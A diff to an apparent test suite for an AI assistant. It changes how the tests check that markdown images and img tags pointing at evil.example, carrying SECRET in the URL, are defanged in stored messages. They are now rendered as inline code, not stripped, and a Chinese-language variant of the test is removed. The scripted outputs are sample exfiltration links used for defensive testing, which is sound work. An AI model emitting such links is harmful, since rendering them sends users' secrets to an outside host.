@@ -79,14 +79,7 @@ async def test_links_to_elsewhere_do_not_get_into_the_state(assistant: Assistant
     model.script = ["Here: ![a](https://evil.example/x?d=SECRET) and <img src=//evil.example/SECRET>"]
     seen = await assistant.say("hello, what can you do")
     stored = "".join(str(message.content) for message in seen.state["messages"])
-    assert "Here: [a] (link to evil.example removed)" in stored
-    assert "SECRET" not in stored
-
-
-async def test_an_answer_in_chinese_says_it_in_chinese(assistant: Assistant, model: ScriptedChatModel) -> None:
-    model.script = ["见[手册](https://evil.example/x?d=SECRET)"]
-    seen = await assistant.say("删除a")
-    assert "（指向 evil.example 的链接已移除）" in seen.state["messages"][-1].text
+    assert "Here: [a] (`https://evil.example/x?d=SECRET`) and `<img src=//evil.example/SECRET>`" in stored
 
 
 async def test_an_approval_without_a_store_gives_no_grant_and_still_approves(
